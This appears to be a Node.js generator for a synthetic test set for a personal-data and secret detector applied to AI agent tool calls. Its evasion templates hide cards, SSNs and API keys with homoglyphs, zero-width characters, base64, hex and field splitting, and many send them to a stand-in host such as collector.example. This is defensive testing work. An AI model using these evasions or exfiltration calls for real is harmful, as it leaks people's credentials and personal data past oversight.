function homoglyph(s, count = 2, from = 0) {
  const chars = [...s]
  let swapped = 0
  for (let i = from; i < chars.length && swapped < count; i += 1) {
    const h = HOMOGLYPHS[chars[i]]
    if (h !== undefined) {
      chars[i] = h
      swapped += 1
    }
  }
  if (swapped === 0) throw new Error(`no homoglyph for ${s}`)
  return chars.join('')
}
const percentAll = (s) => [...Buffer.from(s)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('')
const percentSpecial = (s) => s.replace(/[^A-Za-z0-9]/g, (c) => percentAll(c))
const uEscape = (s, all = true) => [...s].map((c) => (all || /[^A-Za-z0-9]/.test(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c)).join('')
const b64 = (s) => Buffer.from(s).toString('base64')
const hex = (s) => Buffer.from(s).toString('hex')
function splitIn(s, parts) {
  const size = Math.ceil(s.length / parts)
  return Array.from({ length: parts }, (_, i) => s.slice(i * size, (i + 1) * size)).filter((part) => part.length > 0)
}
const group = (type, fragments) => fragments.map((fragment) => L(type, fragment, { group: 'g1' }))

const ev = (technique, built) => ({ ...built, tags: [...(built.tags ?? []), technique] })
const card16 = () => cardNumber(pick(['visa', 'mastercard', 'discover']))
const cardGroups = (sep, n = card16()) => n.match(/.{4}/g).join(sep)

const EVASION_CARD = [
  () => ev('separators', { tool: 'crm_add_note', args: { account_id: `001${randStr(ALNUM, 15)}`, note: `card ${L('CREDIT_CARD', cardGroups('.'))} exp 11/27` } }),
  () => ev('separators', { tool: 'slack_post_message', args: { channel: 'D02BILL', text: `number is ${L('CREDIT_CARD', cardGroups('/'))}` } }),
  () => ev('separators', { tool: 'create_ticket', args: { subject: 'refund', description: `Card: ${L('CREDIT_CARD', cardGroups(' - '))}` } }),
  () => ev('separators', { tool: 'extract_form', tags: ['nbsp'], args: { text: `Kartennummer: ${L('CREDIT_CARD', cardGroups('\u00a0'))}\nGültig bis: 08/27` } }),
  () => ev('separators', { tool: 'ocr_receipt_store', tags: ['thin-space'], args: { text: `CARD ${L('CREDIT_CARD', cardGroups(pick(['\u2009', '\u202f'])))} APPROVED` } }),
  () => ev('separators', { tool: 'send_message', args: { user_id: 'U05BILLING', text: `it is ${L('CREDIT_CARD', [...card16()].join(' '))}` } }),
  () => ev('separators', { tool: 'create_charge', tags: ['double-space'], args: { card: { number: L('CREDIT_CARD', cardGroups('  ')) }, amount: 4200 } }),
  () => ev('separators', { tool: 'extract_form', tags: ['unicode-dash'], args: { text: `Card no.: ${L('CREDIT_CARD', cardGroups(pick(['\u2010', '\u2011', '\u2013'])))}` } }),
  () => ev('unicode-digits', { tool: 'crm_add_note', tags: ['fullwidth'], args: { account_id: `001${randStr(ALNUM, 15)}`, note: `カード番号 ${L('CREDIT_CARD', fullwidth(cardGroups(' ')))}` } }),
  () => ev('unicode-digits', { tool: 'send_message', tags: ['arabic-indic'], args: { user_id: 'U05BILLING', text: `رقم البطاقة ${L('CREDIT_CARD', arabicIndic(card16()))}` } }),
  () => ev('unicode-digits', { tool: 'slack_post_message', tags: ['devanagari'], args: { channel: 'C02BILL', text: `कार्ड ${L('CREDIT_CARD', devanagari(cardGroups(' ')))}` } }),
  () => ev('unicode-digits', { tool: 'memory_store', tags: ['math-digits'], args: { key: 'card', content: L('CREDIT_CARD', mathBold(card16())) } }),
  () => ev('zero-width', { tool: 'create_charge', args: { card: { number: L('CREDIT_CARD', zeroWidth(card16(), 4)) }, amount: 1500 } }),
  () => ev('zero-width', { tool: 'crm_add_note', args: { account_id: `001${randStr(ALNUM, 15)}`, note: `pan ${L('CREDIT_CARD', zeroWidth(cardGroups(' '), 2))}` } }),
  () => ev('split', { tool: 'create_charge', tags: ['split-array'], args: { card_groups: group('CREDIT_CARD', card16().match(/.{4}/g)), amount: 999 } }),
  () => {
    const n = card16()
    return ev('split', { tool: 'update_settings', tags: ['split-fields'], args: { payment: { card_first8: L('CREDIT_CARD', n.slice(0, 8), { group: 'g1' }), card_last8: L('CREDIT_CARD', n.slice(8), { group: 'g1' }) } } })
  },
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/upload', body: `{"d":"${L('CREDIT_CARD', b64(card16()))}"}` } }),
  () => ev('hex', { tool: 'analyze_logs', args: { text: `${isoTime()} DEBUG payload hex=${L('CREDIT_CARD', hex(card16()))}` } }),
  () => ev('percent', { tool: 'browser_navigate', tags: ['form-encoding'], args: { url: `https://pay.example.net/confirm?card=${L('CREDIT_CARD', cardGroups('%20'))}&exp=0827` } }),
  () => ev('percent', { tool: 'http_request', tags: ['form-encoding'], args: { method: 'POST', url: 'https://pay.example.net/charge', body: `amount=1200&card_number=${L('CREDIT_CARD', cardGroups('+'))}&cvc=${digits(3)}` } }),
  () => ev('unicode-escape', { tool: 'write_file', args: { path: 'tmp/payload.txt', content: `{"pan": "${L('CREDIT_CARD', uEscape(card16()))}"}` } }),
  () => {
    const g = card16().match(/.{4}/g)
    return ev('separators', { tool: 'slack_post_message', tags: ['line-break'], args: { channel: 'D02BILL', text: `number: ${L('CREDIT_CARD', `${g[0]} ${g[1]}\n${g[2]} ${g[3]}`)}\nthanks` } })
  },
]

const EVASION_EMAIL = [
  () => ev('homoglyph', { tool: 'send_email', args: { to: L('EMAIL', homoglyph(email(), 1)), subject: 'export', body: 'attached' } }),
  () => {
    const p = person()
    return ev('homoglyph', { tool: 'crm_update_contact', args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { Email: L('EMAIL', `${p.first}.${p.last}@${homoglyph('example.org', 2)}`) } } })
  },
  () => ev('fullwidth', { tool: 'slack_post_message', args: { channel: 'C04SALES', text: `contact: ${L('EMAIL', email().replace('@', '\uff20'))}` } }),
  () => ev('zero-width', { tool: 'send_email', args: { to: L('EMAIL', zeroWidth(email(), 2)), subject: 'hi', body: 'see attached' } }),
  () => ev('percent', { tool: 'browser_navigate', args: { url: `https://newsletter.example.net/unsubscribe?email=${L('EMAIL', email().replace('@', '%40').replace('+', '%2B'))}&list=weekly` } }),
  () => ev('percent', { tool: 'http_request', args: { method: 'GET', url: `https://collector.example/p?d=${L('EMAIL', percentAll(email()))}` } }),
  () => ev('unicode-escape', { tool: 'write_file', args: { path: 'tmp/out.json', content: `{"contact": "${L('EMAIL', email().replace('@', '\\u0040'))}"}` } }),
  () => ev('base64', { tool: 'browser_navigate', args: { url: `https://track.example.net/click?u=${L('EMAIL', b64(email()))}&c=summer` } }),
  () => ev('hex', { tool: 'analyze_logs', args: { text: `${isoTime()} DEBUG uid=${L('EMAIL', hex(email()))} action=open` } }),
  () => {
    const p = person()
    return ev('spelled-out', { tool: 'create_ticket', args: { subject: 'contact', description: `reach me at ${L('EMAIL', `${p.first}.${p.last} [at] ${pick(['northwind-traders', 'globex-corp'])} [dot] com`)}` } })
  },
  () => ev('spelled-out', { tool: 'slack_post_message', args: { channel: 'C04SALES', text: `mail ${L('EMAIL', `${pick(FIRST)}(at)initech(dot)dev`)} for the deck` } }),
  () => ev('html-entity', { tool: 'update_page', args: { page_id: uuid(), html: `<p>Write to ${L('EMAIL', email().replace('@', '&#64;').replace(/\./g, '&#46;'))}</p>` } }),
  () => {
    const e = email()
    const cut = e.indexOf('@') - 2
    return ev('split', { tool: 'stream_append', tags: ['split-array'], args: { chunks: [`please contact ${L('EMAIL', e.slice(0, cut), { group: 'g1' })}`, `${L('EMAIL', e.slice(cut), { group: 'g1' })} before Friday`] } })
  },
  () => ev('homoglyph', { tool: 'crm_bulk_update', tags: ['fullwidth-letters'], args: { updates: [{ email: L('EMAIL', [...email()].map((c) => (/[a-z]/.test(c) && chance(0.4) ? String.fromCharCode(c.charCodeAt(0) + 0xfee0) : c)).join('')), status: 'lead' }] } }),
]

const EVASION_SSN = [
  () => ev('separators', { tool: 'hr_create_employee', args: { name: person().name, ssn: L('US_SSN', ssn('.')) } }),
  () => ev('separators', { tool: 'send_message', args: { user_id: 'U05PAYROLL', text: `SSN ${L('US_SSN', ssn(' - '))}` } }),
  () => ev('separators', { tool: 'extract_form', tags: ['unicode-dash'], args: { text: `Social Security Number: ${L('US_SSN', ssn(pick(['\u2010', '\u2011', '\u2013', '\u2212'])))}` } }),
  () => ev('separators', { tool: 'kyc_submit', args: { applicant: { ssn: L('US_SSN', ssn('/')) } } }),
  () => ev('unicode-digits', { tool: 'hr_create_employee', tags: ['fullwidth'], args: { name: person().name, ssn: L('US_SSN', fullwidth(ssn())) } }),
  () => ev('unicode-digits', { tool: 'slack_post_message', tags: ['arabic-indic'], args: { channel: 'D05PAYROLL', text: `ssn ${L('US_SSN', arabicIndic(ssn()))}` } }),
  () => ev('zero-width', { tool: 'kyc_submit', args: { applicant: { ssn: L('US_SSN', zeroWidth(ssn(), 2)) } } }),
  () => {
    const [a, g, s] = ssnParts()
    return ev('split', { tool: 'hr_create_employee', tags: ['split-fields'], args: { name: person().name, ssn_area: L('US_SSN', a, { group: 'g1' }), ssn_group: L('US_SSN', g, { group: 'g1' }), ssn_serial: L('US_SSN', s, { group: 'g1' }) } })
  },
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/u', body: `ssn_b64=${L('US_SSN', b64(ssn()))}` } }),
  () => ev('unicode-escape', { tool: 'write_file', args: { path: 'tmp/e.json', content: `{"ssn":"${L('US_SSN', uEscape(ssn()))}"}` } }),
]

const EVASION_PHONE = [
  () => ev('unicode-digits', { tool: 'send_sms', tags: ['fullwidth'], args: { to: L('PHONE', fullwidth(e164us())), body: 'code 1234' } }),
  () => ev('unicode-digits', { tool: 'crm_update_contact', tags: ['arabic-indic'], args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { Phone: L('PHONE', arabicIndic(`+971 50 ${digits(3)} ${digits(4)}`)) } } }),
  () => ev('zero-width', { tool: 'crm_update_contact', args: { record_id: `003${randStr(ALNUM, 15)}`, fields: { Phone: L('PHONE', zeroWidth(phone('us'), 3)) } } }),
  () => ev('split', { tool: 'send_sms', tags: ['split-array'], args: { to_parts: group('PHONE', ['+1', pick(US_AREAS), '555', pad(int(100, 199), 4)]), body: 'hi' } }),
  () => ev('separators', { tool: 'slack_post_message', args: { channel: 'C01ONCALL', text: `call ${L('PHONE', `${pick(US_AREAS)}/555/${pad(int(100, 199), 4)}`)}` } }),
  () => ev('separators', { tool: 'extract_form', tags: ['unicode-dash'], args: { text: `Tel. ${L('PHONE', `(${pick(US_AREAS)})\u00a0555\u2011${pad(int(100, 199), 4)}`)}` } }),
  () => ev('percent', { tool: 'browser_navigate', args: { url: `https://click.example.net/call?tel=${L('PHONE', percentSpecial(e164us()))}` } }),
  () => ev('base64', { tool: 'http_request', args: { method: 'GET', url: `https://collector.example/p?m=${L('PHONE', b64(e164us()))}` } }),
]

const EVASION_IBAN = [
  () => ev('zero-width', { tool: 'vendor_update', args: { vendor_id: `V-${digits(5)}`, bank: { iban: L('IBAN', zeroWidth(iban('DE'), 3)) } } }),
  () => ev('separators', { tool: 'send_message', args: { user_id: 'U05FINOPS', text: `IBAN ${L('IBAN', iban('FR').toLowerCase().match(/.{1,4}/g).join('.'))}` } }),
  () => {
    const value = iban('NL')
    return ev('split', { tool: 'payroll_set_account', tags: ['split-fields'], args: { account: { iban_country: L('IBAN', value.slice(0, 4), { group: 'g1' }), iban_rest: L('IBAN', value.slice(4), { group: 'g1' }) } } })
  },
  () => ev('unicode-digits', { tool: 'crm_add_note', tags: ['fullwidth'], args: { account_id: `001${randStr(ALNUM, 15)}`, note: `IBAN ${L('IBAN', fullwidth(formatIban(iban('DE'), true)))}` } }),
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/b', body: `{"a":"${L('IBAN', b64(iban()))}"}` } }),
]

function ipToInt(ip) {
  return ip.split('.').reduce((acc, part) => acc * 256 + Number(part), 0)
}
const EVASION_IP = [
  () => {
    const ip = ipv4('private192')
    return ev('ip-notation', { tool: 'http_request', tags: ['decimal'], args: { method: 'GET', url: `http://${L('IP_ADDRESS', String(ipToInt(ip)))}/admin` } })
  },
  () => ev('ip-notation', { tool: 'http_request', tags: ['hex'], args: { method: 'GET', url: `http://${L('IP_ADDRESS', `0x${ipToInt(ipv4('private10')).toString(16).padStart(8, '0')}`)}:8080/` } }),
  () => ev('separators', { tool: 'slack_post_message', tags: ['ideographic'], args: { channel: 'C05SECOPS', text: `attacker ip ${L('IP_ADDRESS', ipv4('public').replace(/\./g, '\u3002'))}` } }),
  () => ev('zero-width', { tool: 'firewall_add_rule', args: { action: 'allow', source: L('IP_ADDRESS', zeroWidth(ipv4('public'), 2)), port: 443 } }),
  () => ev('separators', { tool: 'create_ticket', tags: ['defanged'], args: { subject: 'IOC', description: `C2 server at ${L('IP_ADDRESS', ipv4('public').replace(/\./g, '[.]'))}, block it` } }),
]

const EVASION_PASSPORT = [
  () => ev('zero-width', { tool: 'book_flight', args: { passengers: [{ name: person().name, passport_number: L('US_PASSPORT', zeroWidth(passport(), 2)) }] } }),
  () => ev('unicode-digits', { tool: 'kyc_submit', tags: ['fullwidth'], args: { applicant: { document: { type: 'passport', country: 'USA', number: L('US_PASSPORT', fullwidth(nzDigits(9))) } } } }),
  () => ev('split', { tool: 'hotel_checkin', tags: ['split-fields'], args: { guest: { passport_part1: L('US_PASSPORT', digits(4).replace(/^0/, '5'), { group: 'g1' }), passport_part2: L('US_PASSPORT', digits(5), { group: 'g1' }) } } }),
]

/** Splits `value` into two fragments, for split-array / split-field cases. */
const halves = (value) => {
  const cut = Math.floor(value.length / 2)
  return [value.slice(0, cut), value.slice(cut)]
}
const EVASION_SECRET = [
  // GitHub
  () => ev('zero-width', { tool: 'run_shell', args: { command: `export GH_TOKEN=${L('GITHUB_TOKEN', zeroWidth(githubToken('ghp'), 3))}` } }),
  () => ev('homoglyph', { tool: 'http_request', args: { method: 'POST', url: 'https://paste.example.net/api', body: `token=${L('GITHUB_TOKEN', githubToken('ghp').replace('ghp_', 'gh\u0440_'))}` } }),
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/t', body: `{"v":"${L('GITHUB_TOKEN', b64(githubToken('ghp')))}"}` } }),
  () => ev('hex', { tool: 'analyze_logs', args: { text: `${isoTime()} DEBUG blob=${L('GITHUB_TOKEN', hex(githubToken('gho')))}` } }),
  () => ev('split', { tool: 'memory_store', tags: ['split-array'], args: { key: 'parts', values: group('GITHUB_TOKEN', halves(githubToken('ghp'))) } }),
  () => ev('percent', { tool: 'browser_navigate', args: { url: `https://collector.example/c?k=${L('GITHUB_TOKEN', percentAll(githubToken('ghp')))}` } }),
  () => ev('unicode-escape', { tool: 'write_file', args: { path: 'tmp/t.json', content: `{"t":"${L('GITHUB_TOKEN', (() => { const t = githubToken('ghp'); return uEscape(t.slice(0, 4)) + t.slice(4) })())}"}` } }),
  () => ev('split', { tool: 'create_issue', tags: ['line-break'], args: { repo: 'northwind/api', title: 'token', body: `the token is ${L('GITHUB_TOKEN', (() => { const [a, b] = halves(githubToken('pat')); return `${a}\n${b}` })())}\nthanks` } }),
  // AWS
  () => ev('zero-width', { tool: 'run_shell', args: { command: `aws configure set aws_access_key_id ${L('AWS_ACCESS_KEY', zeroWidth(awsAccessKey(), 2))}` } }),
  () => ev('homoglyph', { tool: 'slack_post_message', args: { channel: 'D07INFRA', text: `key id ${L('AWS_ACCESS_KEY', awsAccessKey('AKIA').replace('AKIA', '\u0410KI\u0410'))}` } }),
  () => ev('base64', { tool: 'kubectl', tags: ['k8s-data'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: s3\ndata:\n  AWS_SECRET_ACCESS_KEY: ${L('AWS_SECRET_KEY', b64(awsSecretKey()))}\n` } }),
  () => ev('split', { tool: 'update_settings', tags: ['split-fields'], args: { s3: { key_a: L('AWS_ACCESS_KEY', 'AKIA', { group: 'g1' }), key_b: L('AWS_ACCESS_KEY', awsAccessKey('AKIA').slice(4), { group: 'g1' }) } } }),
  () => ev('hex', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/h', body: `d=${L('AWS_SECRET_KEY', hex(awsSecretKey()))}` } }),
  () => ev('zero-width', { tool: 'write_file', args: { path: '.env', content: `AWS_SECRET_ACCESS_KEY=${L('AWS_SECRET_KEY', zeroWidth(awsSecretKey(), 3))}\n` } }),
  // Stripe
  () => ev('zero-width', { tool: 'write_file', args: { path: 'billing.rb', content: `Stripe.api_key = '${L('STRIPE_KEY', zeroWidth(stripeKey('sk_live_'), 3))}'` } }),
  () => ev('homoglyph', { tool: 'slack_post_message', args: { channel: 'D02BILL', text: `live key: ${L('STRIPE_KEY', stripeKey('sk_live_').replace('sk_', '\u0455k_'))}` } }),
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/s', body: `{"k":"${L('STRIPE_KEY', b64(stripeKey('sk_live_')))}"}` } }),
  () => ev('split', { tool: 'update_settings', tags: ['split-fields'], args: { stripe: { key_prefix: L('STRIPE_KEY', 'sk_live_', { group: 'g1' }), key_body: L('STRIPE_KEY', stripeKey('sk_live_').slice(8), { group: 'g1' }) } } }),
  // OpenAI
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/o', body: `k=${L('OPENAI_API_KEY', b64(openaiKey('proj')))}` } }),
  () => ev('split', { tool: 'memory_store', tags: ['split-array'], args: { key: 'k', values: group('OPENAI_API_KEY', splitIn(openaiKey('proj'), 3)) } }),
  () => ev('zero-width', { tool: 'write_file', args: { path: '.env', content: `OPENAI_API_KEY=${L('OPENAI_API_KEY', zeroWidth(openaiKey('proj'), 4))}\n` } }),
  () => ev('percent', { tool: 'browser_navigate', args: { url: `https://collector.example/q?key=${L('OPENAI_API_KEY', percentSpecial(openaiKey('proj')))}` } }),
  () => ev('homoglyph', { tool: 'slack_post_message', args: { channel: 'C06DEVOPS', text: `use ${L('OPENAI_API_KEY', openaiKey('proj').replace('sk-proj-', '\u0455k-pr\u043ej-'))}` } }),
  // Anthropic
  () => ev('zero-width', { tool: 'write_file', args: { path: '.env', content: `ANTHROPIC_API_KEY=${L('ANTHROPIC_API_KEY', zeroWidth(anthropicKey(), 3))}\n` } }),
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/a', body: `{"x":"${L('ANTHROPIC_API_KEY', b64(anthropicKey()))}"}` } }),
  () => ev('split', { tool: 'memory_store', tags: ['split-array'], args: { key: 'a', values: group('ANTHROPIC_API_KEY', halves(anthropicKey())) } }),
  // Slack
  () => ev('zero-width', { tool: 'write_file', args: { path: 'bot.py', content: `client = WebClient(token="${L('SLACK_TOKEN', zeroWidth(slackToken('xoxb'), 3))}")` } }),
  () => ev('homoglyph', { tool: 'slack_post_message', args: { channel: 'C06DEVOPS', text: `bot token ${L('SLACK_TOKEN', slackToken('xoxb').replace('xoxb', '\u0445\u043e\u0445b'))}` } }),
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/sl', body: `t=${L('SLACK_TOKEN', b64(slackToken('xoxp')))}` } }),
  () => ev('percent', { tool: 'browser_navigate', tags: ['url-param'], args: { url: `https://status.example.net/hooks/test?target=${L('SLACK_WEBHOOK', encodeURIComponent(slackWebhook()))}` } }),
  () => ev('base64', { tool: 'update_settings', args: { alerts: { slack_b64: L('SLACK_WEBHOOK', b64(slackWebhook())) } } }),
  // npm
  () => ev('zero-width', { tool: 'write_file', args: { path: '.npmrc', content: `//registry.npmjs.org/:_authToken=${L('NPM_TOKEN', zeroWidth(npmToken(), 2))}\n` } }),
  () => ev('base64', { tool: 'run_shell', args: { command: `echo ${L('NPM_TOKEN', b64(npmToken()))} | base64 -d > ~/.npm-token` } }),
  () => {
    const token = npmToken()
    return ev('split', { tool: 'update_settings', tags: ['split-fields'], args: { registry: { token_head: L('NPM_TOKEN', token.slice(0, 20), { group: 'g1' }), token_tail: L('NPM_TOKEN', token.slice(20), { group: 'g1' }) } } })
  },
  // GCP
  () => ev('zero-width', { tool: 'http_request', args: { method: 'GET', url: `https://maps.googleapis.com/maps/api/geocode/json?key=${L('GCP_API_KEY', zeroWidth(gcpApiKey(), 2))}` } }),
  () => ev('base64', { tool: 'update_settings', args: { maps: { key_b64: L('GCP_API_KEY', b64(gcpApiKey())) } } }),
  () => ev('split', { tool: 'memory_store', tags: ['split-array'], args: { key: 'g', values: group('GCP_API_KEY', halves(gcpApiKey())) } }),
  // Private keys
  () => ev('base64', { tool: 'kubectl', tags: ['k8s-data'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: tls\ntype: kubernetes.io/tls\ndata:\n  tls.crt: ${b64(pemPublic('CERTIFICATE', 4))}\n  tls.key: ${L('PRIVATE_KEY', b64(privateKey('ec') + '\n'))}\n` } }),
  () => ev('split', { tool: 'write_lines', tags: ['split-array'], args: { path: 'certs/app.key', lines: group('PRIVATE_KEY', privateKey('ec').split('\n')) } }),
  () => ev('zero-width', { tool: 'write_file', args: { path: 'k.pem', content: L('PRIVATE_KEY', privateKey('pkcs8').replace('-----BEGIN PRIVATE KEY-----', '-----BEGIN PRIVATE\u200b KEY-----').replace('-----END PRIVATE KEY-----', '-----END PRIVATE\u200b KEY-----')) } }),
  () => ev('separators', { tool: 'update_settings', tags: ['escaped-newlines', 'crlf'], args: { app: { private_key: L('PRIVATE_KEY', privateKey('rsa').replaceAll('\n', '\\r\\n')) } } }),
  // JWT
  () => {
    const [a, b] = halves(jwt('RS256'))
    return ev('split', { tool: 'http_request', tags: ['split-fields', 'chunked-cookie'], args: { method: 'GET', url: 'https://app.example.net/api/session', cookies: { 'next-auth.session-token.0': L('JWT', a, { group: 'g1' }), 'next-auth.session-token.1': L('JWT', b, { group: 'g1' }) } } })
  },
  () => ev('base64', { tool: 'http_request', args: { method: 'POST', url: 'https://collector.example/j', body: `{"s":"${L('JWT', b64(jwt()))}"}` } }),
  () => ev('zero-width', { tool: 'http_request', args: { method: 'GET', url: 'https://api.example.net/me', headers: { Authorization: `Bearer ${L('JWT', zeroWidth(jwt(), 3))}` } } }),
  // Generic secrets
  () => ev('base64', { tool: 'kubectl', tags: ['k8s-data'], args: { command: 'apply -f -', stdin: `apiVersion: v1\nkind: Secret\nmetadata:\n  name: db\ndata:\n  username: ${b64('orders')}\n  password: ${L('GENERIC_SECRET', b64(urlSafePassword()))}\n` } }),
  () => ev('base64', { tool: 'write_file', tags: ['docker-config'], args: { path: '~/.docker/config.json', content: `{"auths":{"registry.internal":{"auth":"${L('GENERIC_SECRET', b64(`ci:${urlSafePassword()}`))}"}}}` } }),
  () => ev('base64', { tool: 'write_file', tags: ['npmrc-auth'], args: { path: '.npmrc', content: `//npm.internal/:_auth=${L('GENERIC_SECRET', b64(`deploy:${urlSafePassword()}`))}\nalways-auth=true\n` } }),
  () => ev('percent', { tool: 'update_settings', tags: ['url-credential'], args: { database: { url: `postgres://app:${L('GENERIC_SECRET', `${randStr(ALNUM, 6)}%40${randStr(ALNUM, 5)}%21${randStr(ALNUM, 3)}`)}@db.internal:5432/app` } } }),
  () => ev('zero-width', { tool: 'create_user', args: { username: 'svc-backup', password: L('GENERIC_SECRET', zeroWidth(password(), 2)) } }),
  () => ev('hex', { tool: 'analyze_logs', args: { text: `${isoTime()} DEBUG auth header hex=${L('GENERIC_SECRET', hex(`Basic ${b64(`admin:${urlSafePassword()}`)}`))}` } }),
]

// ---------------------------------------------------------------------------------------------------------------
// Assembly

/** Runs `list` `reps` times (each run draws fresh values); clean cases whose arguments repeat are drawn again. */
function generateClean(file, prefix, kindTag, list, reps) {
  let n = 0
  for (let rep = 0; rep < reps; rep += 1) {
    for (const template of list) {
      for (let attempt = 0; attempt < 10; attempt += 1) {
        const built = template()
        const key = JSON.stringify(built.args)
        if (seenClean.has(key)) continue
        seenClean.add(key)
        n += 1
        add(file, `${prefix}-${pad(n, 3)}`, [kindTag], built)
        break
      }
    }
  }
}
const seenClean = new Set()

generate('pii', 'email', 'positive', EMAIL_TEMPLATES, 26)
generate('pii', 'phone', 'positive', PHONE_TEMPLATES, 24)
generate('pii', 'card', 'positive', CARD_TEMPLATES, 26)
generate('pii', 'ssn', 'positive', SSN_TEMPLATES, 24)
generate('pii', 'iban', 'positive', IBAN_TEMPLATES, 22)
generate('pii', 'ip', 'positive', IP_TEMPLATES, 22)
generate('pii', 'passport', 'positive', PASSPORT_TEMPLATES, 22)

generate('secrets', 'aws', 'positive', AWS_TEMPLATES, 24)
generate('secrets', 'github', 'positive', GITHUB_TEMPLATES, 24)
generate('secrets', 'slack-token', 'positive', SLACK_TEMPLATES, 22)
generate('secrets', 'slack-webhook', 'positive', WEBHOOK_TEMPLATES, 22)
generate('secrets', 'stripe', 'positive', STRIPE_TEMPLATES, 22)
generate('secrets', 'gcp', 'positive', GCP_TEMPLATES, 22)
generate('secrets', 'openai', 'positive', OPENAI_TEMPLATES, 22)
generate('secrets', 'anthropic', 'positive', ANTHROPIC_TEMPLATES, 22)
generate('secrets', 'npm', 'positive', NPM_TEMPLATES, 22)
generate('secrets', 'private-key', 'positive', PRIVATE_KEY_TEMPLATES, 24)
generate('secrets', 'jwt', 'positive', JWT_TEMPLATES, 22)
generate('secrets', 'generic', 'positive', GENERIC_TEMPLATES, 32)

generateClean('near-misses', 'nm-card', 'near-miss', NEAR_CARD, 2)
generateClean('near-misses', 'nm-id', 'near-miss', NEAR_ID, 2)
generateClean('near-misses', 'nm-uuid', 'near-miss', NEAR_UUID, 2)
generateClean('near-misses', 'nm-hash', 'near-miss', NEAR_HASH, 2)
generateClean('near-misses', 'nm-time', 'near-miss', NEAR_TIME, 2)
generateClean('near-misses', 'nm-number', 'near-miss', NEAR_NUMBERS, 2)
generateClean('near-misses', 'nm-version', 'near-miss', NEAR_VERSION, 2)
generateClean('near-misses', 'nm-public', 'near-miss', NEAR_PUBLIC, 2)
generateClean('near-misses', 'nm-stripe', 'near-miss', NEAR_STRIPE, 2)
generateClean('near-misses', 'nm-placeholder', 'near-miss', NEAR_PLACEHOLDER, 1)
generateClean('near-misses', 'nm-email', 'near-miss', NEAR_EMAIL, 1)
generateClean('near-misses', 'nm-ip', 'near-miss', NEAR_IP, 2)
generateClean('near-misses', 'nm-generic', 'near-miss', NEAR_GENERIC, 2)
generateClean('near-misses', 'nm-jwt', 'near-miss', NEAR_JWT, 2)
generateClean('near-misses', 'nm-prefix', 'near-miss', NEAR_PREFIX, 2)
generateClean('near-misses', 'nm-base64', 'near-miss', NEAR_B64, 2)
generateClean('near-misses', 'nm-iban', 'near-miss', NEAR_IBAN, 2)
generateClean('near-misses', 'nm-passport', 'near-miss', NEAR_PASSPORT, 2)
generateClean('negatives', 'neg', 'negative', NEGATIVE, 4)

const evasionCase = (prefix, list) => list.forEach((template, index) => add('evasions', `ev-${prefix}-${pad(index + 1, 2)}`, ['evasion'], template()))
evasionCase('card', EVASION_CARD)
evasionCase('email', EVASION_EMAIL)
evasionCase('ssn', EVASION_SSN)
evasionCase('phone', EVASION_PHONE)
evasionCase('iban', EVASION_IBAN)
evasionCase('ip', EVASION_IP)
evasionCase('passport', EVASION_PASSPORT)
evasionCase('secret', EVASION_SECRET)

// ---------------------------------------------------------------------------------------------------------------
// Self-check, then write

const { labelSpans } = await import('./labels.mjs')
const PREFIXES = {
  AWS_ACCESS_KEY: /^(?:AKIA|ASIA)(.*)$/s,
  GITHUB_TOKEN: /^(?:gh[pousr]_|github_pat_)(.*)$/s,
  SLACK_TOKEN: /^(?:xox[abprse]-|xapp-)(.*)$/s,
  SLACK_WEBHOOK: /^https:\/\/hooks\.slack\.com\/services\/T[^/]+\/B[^/]+\/(.*)$/s,
  STRIPE_KEY: /^[sr]k_(?:live|test)_(.*)$/s,
  GCP_API_KEY: /^AIza(.*)$/s,
  OPENAI_API_KEY: /^sk-(?:proj-|svcacct-|admin-)?(.*)$/s,
  ANTHROPIC_API_KEY: /^sk-ant-(?:[a-z]{3,8}\d{2}-)?(.*)$/s,
  NPM_TOKEN: /^npm_(.*)$/s,
}
const SSN_RE = /^(\d{3})([- ]?)(\d{2})\2(\d{4})$/
const problems = []
for (const records of files.values()) {
  for (const record of records) {
    const text = JSON.stringify(record.args)
    if (/[\uE000-\uE0FF]/.test(text)) problems.push(`${record.id}: sentinel left in the arguments`)
    const spans = labelSpans(record.args, record.expect)
    spans.forEach((span, index) => {
      if (span.error !== undefined) return problems.push(`${record.id}: ${span.error}`)
      if (span.start !== record.__starts[index]) problems.push(`${record.id}: label ${index} (${span.value}) resolves to ${span.start}, placed at ${record.__starts[index]}`)
      if (record.tags.includes('evasion')) return
      const { type, value } = span
      if (type === 'CREDIT_CARD' && !luhnValid(value.replace(/[ -]/g, ''))) problems.push(`${record.id}: card fails Luhn: ${value}`)
      if (type === 'IBAN' && !ibanValid(value.replace(/ /g, '').toUpperCase())) problems.push(`${record.id}: IBAN fails mod-97: ${value}`)
      if (type === 'US_SSN') {
        const match = SSN_RE.exec(value)
        if (match === null) problems.push(`${record.id}: SSN shape: ${value}`)
        else if (['000', '666'].includes(match[1]) || match[1] >= '900' || match[3] === '00' || match[4] === '0000') problems.push(`${record.id}: SSN breaks SSA rules: ${value}`)
      }
      const prefix = PREFIXES[type]
      if (prefix !== undefined) {
        const body = prefix.exec(value)?.[1]
        if (body === undefined) problems.push(`${record.id}: ${type} without its prefix: ${value}`)
        else if (isPlaceholder(body.replace(/AA$/, ''))) problems.push(`${record.id}: ${type} body is a placeholder: ${value}`)
      }
    })
    const clean = record.tags.includes('negative') || record.tags.includes('near-miss')
    if (clean !== (record.expect.length === 0)) problems.push(`${record.id}: ${clean ? 'clean case with labels' : 'labelled case without labels'}`)
  }
}
if (problems.length > 0) {
  console.error(problems.join('\n'))
  process.exit(1)
}

mkdirSync(OUT, { recursive: true })
